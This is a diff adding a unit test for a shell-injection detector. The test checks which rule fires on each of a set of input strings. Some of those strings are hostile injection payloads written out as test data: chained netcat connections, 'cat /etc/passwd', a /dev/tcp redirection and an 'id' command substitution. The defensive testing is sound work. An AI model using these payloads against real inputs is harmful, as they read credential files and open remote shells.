@@ -644,3 +644,28 @@ t.test('HTML read as blanks: many tags (the buffered path) find what few tags do
   // Hostile sizes return (no timing asserted).
   for (const unit of ['</a>x', '<a <a ', '<a x="']) t.doesNotThrow(() => detectShellInjection(unit.repeat(200_000)), unit);
 });
+
+t.test('a command record whose name is no command: arguments counted, not classified', async (t) => {
+  // onArgWord / onRedirTarget skip the evidence of a record with cls 0 (finalize judges nothing for
+  // it); the argument count still drives the "unknown word, then a strong command" test, and what
+  // does not depend on the record (separators, /dev/tcp targets, for/if) still fires. Verdicts are
+  // those of the build before the change.
+  const cases: Array<[string, string | undefined]> = [
+    [';.system nc 10.0.0.1 4444', 'shell.command-chain'],
+    ['1;.sh whoami', 'shell.command-chain'],
+    [';foo bar nc 10.0.0.1 4444', 'shell.command-chain'],
+    [';foo bar baz nc 10.0.0.1 4444', undefined],
+    ['foo a b c d e f; cat /etc/passwd', 'shell.command-chain'],
+    ['for /f %i in (x) do calc', 'shell.cmd-control'],
+    ['if exist C:\\x.txt calc', 'shell.cmd-control'],
+    ['foo <a >/dev/tcp/1.2.3.4/80', 'shell.redirection'],
+    ['"; foo <a x="1" >x.php', undefined],
+    ['Soft cotton jersey with a relaxed fit; free returns', undefined],
+  ];
+  for (const [v, rule] of cases) t.equal(detectShellInjection(v)?.rule, rule, v);
+  // 1 MB of `<a x="` (read inside "…", a record named `<a x=` with 350,000 arguments), then a command.
+  const run = '<a x="'.repeat(175_000);
+  t.equal(detectShellInjection(run), undefined);
+  t.equal(detectShellInjection(run + '"; cat /etc/passwd')?.confidence, 'high');
+  t.equal(detectShellInjection(run + '`id`')?.rule, 'shell.substitution');
+});
